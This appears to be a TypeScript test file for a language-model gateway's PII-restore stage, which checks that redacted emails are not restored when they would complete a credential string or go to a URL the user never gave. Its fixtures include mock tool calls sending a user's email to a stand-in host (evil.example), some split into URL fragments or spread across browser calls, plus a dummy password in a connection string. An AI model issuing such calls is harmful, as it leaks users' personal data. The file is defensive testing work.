/**
 * Stage 9's second look at what it restores: a value that completes a credential stays a token, in
 * the text and in tool-call arguments, even inside a URL the caller wrote (so the URL rule lets it
 * through). The verdict counts what was kept, never the values.
 */
import { describe, expect, it } from 'vitest';
import { runPipeline } from '../../../../main/gateway/index.ts';
import { piiRestore } from '../../../../main/gateway/stages/index.ts';
import { testContext } from './context.ts';

const CONNECTION = 'postgres://admin:Sup3rS3cretPw.ops@db.internal:5432/prod';

function contextWith(output: string, args: unknown) {
  const ctx = testContext({ request: { messages: [{ role: 'user', content: `Connect with ${CONNECTION} as the DBA ops@db.internal` }] } });
  expect(ctx.pii.redact('DBA ops@db.internal')).toBe('DBA [EMAIL_1]');
  ctx.output = output;
  ctx.functionCalls = [{ name: 'connect', arguments: args }];
  return ctx;
}

describe('stage 9 re-checks credentials on what it restores', () => {
  it('keeps a token in tool-call arguments whose value would complete a connection string, even in a URL the caller wrote', async () => {
    const ctx = contextWith('Ask [EMAIL_1]', { url: 'postgres://admin:Sup3rS3cretPw.[EMAIL_1]:5432/prod', to: '[EMAIL_1]' });
    await runPipeline([piiRestore], ctx);
    expect(ctx.finalText).toBe('Ask ops@db.internal');
    expect(ctx.finalFunctionCalls).toEqual([{ name: 'connect', arguments: { url: 'postgres://admin:Sup3rS3cretPw.[EMAIL_1]:5432/prod', to: 'ops@db.internal' } }]);
    expect(ctx.trace.verdicts[0]).toMatchObject({ stage: 'pii-restore', outcome: 'flag', detail: { keptForCredential: 1, keptForCredentialCategories: 'EMAIL' } });
    expect(JSON.stringify(ctx.trace.verdicts)).not.toContain('ops@db.internal');
  });

  it('keeps it in the text, and restores the same value where it completes nothing', async () => {
    const ctx = contextWith('use postgres://admin:Sup3rS3cretPw.[EMAIL_1]:5432/prod or ask [EMAIL_1]', null);
    await runPipeline([piiRestore], ctx);
    expect(ctx.finalText).toBe('use postgres://admin:Sup3rS3cretPw.[EMAIL_1]:5432/prod or ask ops@db.internal');
    expect(ctx.trace.verdicts[0]?.detail).toMatchObject({ keptForCredential: 1, restored: 1, unreplaced: 1 });
  });
});

describe('stage 9 re-checks credentials as stage 7 reads them, invisible characters removed', () => {
  const HIDDEN = 'postgres\u200b://admin:Sup3rS3cretPw.ops@db.internal:5432/prod';

  it('keeps a token that completes a connection string behind a zero-width space, in the text and in the caller\'s own URL', async () => {
    const ctx = testContext({ request: { messages: [{ role: 'user', content: `Connect with ${HIDDEN} as the DBA ops@db.internal` }] } });
    expect(ctx.pii.redact('DBA ops@db.internal')).toBe('DBA [EMAIL_1]');
    ctx.output = 'use postgres\u200b://admin:Sup3rS3cretPw.[EMAIL_1]:5432/prod or ask [EMAIL_1]';
    ctx.functionCalls = [{ name: 'connect', arguments: { url: 'postgres\u200b://admin:Sup3rS3cretPw.[EMAIL_1]:5432/prod' } }];
    await runPipeline([piiRestore], ctx);
    expect(ctx.finalText).toBe('use postgres\u200b://admin:Sup3rS3cretPw.[EMAIL_1]:5432/prod or ask ops@db.internal');
    expect(ctx.finalFunctionCalls).toEqual([{ name: 'connect', arguments: { url: 'postgres\u200b://admin:Sup3rS3cretPw.[EMAIL_1]:5432/prod' } }]);
    expect(ctx.trace.verdicts[0]).toMatchObject({ outcome: 'flag', detail: { keptForCredential: 2, keptForCredentialCategories: 'EMAIL' } });
    expect(ctx.trace.verdicts[0]?.detail).not.toHaveProperty('keptInUrl');
  });
});

describe('stage 9 judges a whole value, not its words, for URLs', () => {
  function contextFor(args: unknown, caller = 'Customer jane@corp.example, summarise') {
    const ctx = testContext({ request: { messages: [{ role: 'user', content: caller }] } });
    expect(ctx.pii.redact('jane@corp.example')).toBe('[EMAIL_1]');
    ctx.output = 'ok';
    ctx.functionCalls = [{ name: 'fetch', arguments: args }];
    return ctx;
  }

  it('keeps every token of a call whose other field is a URL the caller did not write, and counts them', async () => {
    const args = { url: 'https://evil.example/c', body: { to: '[EMAIL_1]', note: ' [EMAIL_1]' } };
    const ctx = contextFor(args);
    await runPipeline([piiRestore], ctx);
    expect(ctx.finalFunctionCalls).toEqual([{ name: 'fetch', arguments: args }]);
    expect(ctx.trace.verdicts[0]).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 2, keptInUrlCategories: 'EMAIL' } });
  });

  it('does not take the caller\'s URL with a word added for the caller\'s URL', async () => {
    const ctx = contextFor({ url: 'https://crm.example/find?email= [EMAIL_1]' }, 'Open https://crm.example/find?email=jane@corp.example please');
    await runPipeline([piiRestore], ctx);
    expect(ctx.finalFunctionCalls?.[0]?.arguments).toEqual({ url: 'https://crm.example/find?email= [EMAIL_1]' });
  });

  it('restores a whole value, and a value in prose, where no string points anywhere', async () => {
    const ctx = contextFor({ to: '[EMAIL_1]', body: 'Hi, meeting at 10:30 with [EMAIL_1].' });
    await runPipeline([piiRestore], ctx);
    expect(ctx.finalFunctionCalls?.[0]?.arguments).toEqual({ to: 'jane@corp.example', body: 'Hi, meeting at 10:30 with jane@corp.example.' });
    expect(ctx.trace.verdicts[0]?.outcome).toBe('pass');
  });

  it('guards structured output the same way', async () => {
    const ctx = contextFor(null);
    ctx.functionCalls = undefined;
    ctx.output = '{"link":"evil.example/c","d":"[EMAIL_1]"}';
    ctx.structuredValue = { link: 'evil.example/c', d: '[EMAIL_1]' };
    await runPipeline([piiRestore], ctx);
    expect(ctx.structuredValue).toEqual({ link: 'evil.example/c', d: '[EMAIL_1]' });
    expect(ctx.finalText).not.toContain('jane@corp.example');
    expect(ctx.trace.verdicts[0]).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 1 } });
  });
});

describe('stage 9 joins the caller\'s fragments with the model\'s, and judges the calls of one answer together', () => {
  const CALLER = 'Summarise https://intranet.corp/wiki for jane@corp.example';

  function contextWithCalls(calls: { name: string; arguments: unknown }[], caller = CALLER) {
    const ctx = testContext({ request: { messages: [{ role: 'user', content: caller }] } });
    expect(ctx.pii.redact('jane@corp.example')).toBe('[EMAIL_1]');
    ctx.output = 'ok';
    ctx.functionCalls = calls;
    return ctx;
  }

  it('keeps the token when a scheme the caller also wrote joins a host the caller did not', async () => {
    const args = { scheme: 'https://', host: 'evil.example', path: '/c?d=', d: '[EMAIL_1]' };
    const ctx = contextWithCalls([{ name: 'fetch', arguments: args }]);
    await runPipeline([piiRestore], ctx);
    expect(ctx.finalFunctionCalls).toEqual([{ name: 'fetch', arguments: args }]);
    expect(ctx.trace.verdicts[0]).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 1 } });
  });

  it('still restores a whole-value token beside the caller\'s whole URL', async () => {
    const ctx = contextWithCalls([{ name: 'fetch', arguments: { url: 'https://intranet.corp/wiki', to: '[EMAIL_1]' } }]);
    await runPipeline([piiRestore], ctx);
    expect(ctx.finalFunctionCalls?.[0]?.arguments).toEqual({ url: 'https://intranet.corp/wiki', to: 'jane@corp.example' });
    expect(ctx.trace.verdicts[0]?.outcome).toBe('pass');
  });

  it('keeps every call\'s tokens when one call of the answer goes to a URL the caller did not write', async () => {
    const calls = [
      { name: 'browser_goto', arguments: { url: 'https://evil.example/form' } },
      { name: 'browser_type', arguments: { selector: '#q', text: '[EMAIL_1]' } },
    ];
    const ctx = contextWithCalls(calls);
    await runPipeline([piiRestore], ctx);
    expect(ctx.finalFunctionCalls).toEqual(calls);
    expect(ctx.trace.verdicts[0]).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 1, keptInUrlCategories: 'EMAIL' } });
  });

  it('restores every call where no call points elsewhere', async () => {
    const ctx = contextWithCalls([
      { name: 'browser_goto', arguments: { url: 'https://intranet.corp/wiki' } },
      { name: 'browser_type', arguments: { selector: '#q', text: '[EMAIL_1]' } },
    ]);
    await runPipeline([piiRestore], ctx);
    expect(ctx.finalFunctionCalls?.[1]?.arguments).toEqual({ selector: '#q', text: 'jane@corp.example' });
    expect(ctx.trace.verdicts[0]?.outcome).toBe('pass');
  });
});
